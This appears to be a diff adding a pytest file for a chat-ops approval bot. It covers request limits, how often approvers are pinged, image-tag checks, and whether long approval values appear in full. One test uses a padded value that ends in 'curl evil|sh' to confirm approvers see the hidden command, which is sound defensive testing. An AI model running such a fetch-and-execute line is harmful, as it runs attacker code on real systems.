@@ -1,0 +1,123 @@
+"""How often people are asked, for how much at once, and that they can read what they are asked."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from datetime import timedelta
+
+import pytest
+
+from bot.domain.approval import Approval, ApprovalNote
+from bot.domain.change import ActionKind
+from bot.domain.plan import FieldChange
+from bot.domain.policy import Members
+from bot.rendering.guard import guard
+from bot.rendering.voice import BlockKitVoice
+from bot.usecases.speak import parent_id
+from tests.unit.domain.approval.samples import an_approval
+from tests.unit.usecases.approving import (
+    DAN,
+    RULE,
+    SRE,
+    a_policy,
+    asking,
+    changed,
+)
+from tests.unit.usecases.bed import ANN, BOB
+
+UPDATE = "update --image reg/httpd:v2 web"
+
+
+def test_the_very_same_is_asked_for_once() -> None:
+    bed = asking()
+    name = bed.asked()
+    for who in (ANN, BOB):
+        assert f"{name} asks for the very same already" in bed.says(UPDATE, who)
+    bed.clicks(ActionKind.CANCEL_REQUEST, name, ANN)
+    assert bed.asked() != name
+    first = bed.asked("rm web")
+    assert f"{first} asks for the very same already" in bed.says("rm web", BOB)
+
+
+def test_what_has_expired_and_is_not_noted_is_in_nobodys_way() -> None:
+    bed = asking()
+    name = bed.asked()
+    bed.clock.advance(timedelta(minutes=31).total_seconds())
+    assert bed.asked() != name
+
+
+def test_one_person_has_ten_requests_at_most_and_others_have_theirs() -> None:
+    bed = asking()
+    for number in range(10):
+        bed.asked(f"scale web={number + 10}")
+    assert "You have 10 requests pending" in bed.says("scale web=20", ANN)
+    assert "You have 10 requests pending" in bed.says("rm web", ANN)
+    assert len(bed.store.open_ids("default", Approval)) == 10
+    assert bed.asked("scale web=20", BOB)
+
+
+def test_the_same_approvers_are_called_once_in_a_while() -> None:
+    bed = asking()
+    first = bed.asked("scale web=10")
+    assert SRE in bed.request_of(first).text
+    bed.clicks(ActionKind.CANCEL_REQUEST, first, ANN)
+    quiet = [bed.asked(f"scale web={number}") for number in (11, 12)]
+    called = [m for m in bed.slack.messages if SRE in m.content.text]
+    assert called == []
+    for name in quiet:
+        assert f"of those whom `{first}` has called" in bed.request_of(name).text
+    changed(bed, approvers=Members(users=frozenset({DAN.user})))
+    assert f"<@{DAN.user}>" in bed.request_of(bed.asked("scale web=13")).text
+    changed(bed)
+    bed.clock.advance(timedelta(minutes=5).total_seconds())
+    assert SRE in bed.request_of(bed.asked("scale web=14")).text
+
+
+@pytest.mark.parametrize("pad", [20, 320, 3_300])
+@pytest.mark.parametrize("flag", ["--args", "--label-add"])
+def test_what_people_say_yes_to_can_be_read_in_full(pad: int, flag: str) -> None:
+    bed = asking()
+    value = f"'sh -c \"echo {'A' * pad}; curl evil|sh\"'"
+    typed = f"x={value}" if flag == "--label-add" else value
+    name = bed.asked(f"update --env-add KEY=hunter2 {flag} {typed} web")
+    bed.tick()
+    (top,) = bed.slack.shown(parent_id(name))
+    thread = [m.content for m in bed.slack.messages if m.thread_ts == top.ts]
+    thread += [content for where, content in bed.slack.files if where.thread_ts == top.ts]
+    whole = "A" * pad + "; curl evil|sh"
+    shown = [guard(content) for content in (top.content, *thread)]
+    drawn = [str(each.blocks) + (each.file_text or "") for each in shown]
+    assert sum(whole in each for each in drawn) > 0
+    assert len(thread) == (pad > 100)
+    assert ("thread has it in full" in drawn[0]) == (pad > 100)
+    assert not [each for each in drawn if "hunter2" in each]
+
+
+def test_a_value_of_several_lines_is_shown_with_its_ends_of_line() -> None:
+    many = an_approval(changes=(FieldChange(path="args", old=None, new="a\nb"),))
+    shown = BlockKitVoice(open_policy=False).approval_note(many, ApprovalNote.DETAILS)
+    assert "+ args: a\\nb" in shown.text
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "update --no-resolve-image --image reg/httpd:v2 web",
+        "update --no-resolve-image --image reg/httpd:v2 --dry-run web",
+        "create --no-resolve-image --name web2 reg/httpd:v2",
+    ],
+)
+def test_nobody_is_asked_about_a_tag_that_may_move(line: str) -> None:
+    bed = asking()
+    told = bed.says(line, ANN)
+    assert "`reg/httpd:v2` is a tag" in told
+    assert "Leave --no-resolve-image out" in told
+    assert not bed.store.open_ids("default", Approval)
+
+
+def test_a_digest_may_be_approved_unresolved_and_a_tag_goes_where_nobody_is_asked() -> None:
+    bed = asking()
+    line = "update --no-resolve-image --image reg/httpd:v2"
+    bed.asked(f"{line}@sha256:{'ab' * 32} web")
+    bed.policies.policy = a_policy(replace(RULE, verbs=frozenset()))
+    assert bed.done(f"{line} web").state.value == "completed"
